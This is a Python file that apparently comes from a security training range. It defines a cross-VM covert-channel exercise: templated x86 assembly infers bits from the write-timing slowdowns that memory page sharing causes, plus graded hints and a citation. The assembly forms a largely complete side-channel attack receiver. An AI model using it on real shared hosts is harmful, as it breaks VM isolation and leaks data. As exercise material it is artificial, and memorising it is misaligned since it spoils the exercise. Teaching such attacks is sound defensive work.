"""A covert channel by page sharing: a VM in league says bits by the content of its pages, as fast as the scanner is."""

from vmwidgets.model.range.attack import Attack, Placement
from vmwidgets.model.words import said

COVERT_CHANNEL = Attack(
    id="covert_channel",
    title=said("a covert channel by page sharing"),
    code="""
    mov rbx, {mark}
    xor rbp, rbp                ; the secret
    mov r14, {key_bits}         ; bits still to come
period:
    rdtsc                       ; which bits are being said, and when the next ones begin
    shl rdx, 32
    or rax, rdx
    shr rax, {period_shift}
    mov r12, rax
    inc r12
    shl r12, {period_shift}
    sub r12, 100000             ; early enough to measure all pages before
    mov r13, rax
    shl r13, 3
    and r13, 63                 ; the first bit
    mov rdi, {page_bytes}
    mov rcx, {sender_pages}
    mov rdx, r13
    inc rdx
fill:
    mov [rdi], rbx
    mov [rdi + 8], rdx          ; what the other one's page holds if the bit is 1
    add rdi, {page_bytes}
    inc rdx
    dec rcx
    jnz fill
    mov rax, r12
    mov rdx, r12
    shr rdx, 32
    mov rcx, 0x6e0              ; the deadline of the timer
    wrmsr
    hlt
    mov rdi, {page_bytes}
    mov rcx, r13
    mov r8, {sender_pages}
measure:
    rdtsc
    mov r9, rax
    mov [rdi], rbx
    rdtsc
    sub rax, r9
    cmp rax, {slow_write}
    jb zero
    mov rax, 1
    shl rax, cl
    or rbp, rax
zero:
    add rdi, {page_bytes}
    inc rcx
    dec r8
    jnz measure
    hlt                         ; the next period has begun
    sub r14, {sender_pages}
    jnz period
    mov rax, {call_report}
    mov rdi, rbp
    vmcall
""",
    placement=Placement(timed=True, sender=True),
    family="V5",
    number=11,
    like="Xiao et al. 2013",
    hints=(
        said("Two VMs that may not talk can still agree on what a page holds."),
        said("A bit is a page: equal to yours or not. What must happen before you can tell?"),
        said("In each period fill eight pages, sleep almost to its end, and see which writes are slow."),
    ),
)
"""Receives 64 bits, eight in each period."""
